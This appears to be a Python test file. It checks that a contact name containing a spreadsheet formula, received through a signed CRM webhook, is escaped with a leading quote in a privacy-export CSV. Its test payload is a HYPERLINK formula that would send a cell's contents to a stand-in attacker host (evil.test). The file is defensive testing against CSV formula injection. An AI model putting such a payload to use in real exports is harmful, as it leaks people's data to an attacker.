"""A name that is a spreadsheet formula, from the CRM webhook or an import, comes out of the
privacy export's CSV as text (a leading quote), never as a formula."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json

from lexdial.entrypoints.api.routes_webhooks import InterfaceSettings

from .conftest import NOW, Api

CRM_SECRET = "crm-secret-0123456789"
FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Click")'


def _export_rows(api: Api, number: str) -> list[list[str]]:
    res = api.client.post(
        "/v1/privacy/export",
        json={"number": number, "format": "csv"},
        headers=api.headers("compliance"),
    )
    assert res.status_code == 200
    return list(csv.reader(io.StringIO(res.text, newline="")))


def test_a_formula_name_from_the_crm_webhook_is_quoted_in_the_privacy_export(api: Api) -> None:
    api.client.app.state.interfaces = InterfaceSettings(crm_secret=CRM_SECRET)  # type: ignore[attr-defined]
    raw = json.dumps(
        {"data": {"id": 7, "name": FORMULA, "phone_numbers": [{"number": "+16145550177"}]}}
    ).encode()
    ts = str(int(NOW.timestamp()))
    mac = hmac.new(CRM_SECRET.encode(), ts.encode() + b"." + raw, hashlib.sha256).hexdigest()
    headers = {
        "Content-Type": "application/json",
        "X-Lexdial-Signature": f"t={ts},v1={mac}",
    }
    assert (
        api.client.post("/webhooks/crm/contacts", content=raw, headers=headers).status_code == 201
    )
    rows = _export_rows(api, "+16145550177")
    names = [r[3] for r in rows if r[0] == "contact" and r[2] == "name"]
    assert names == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r[3:])
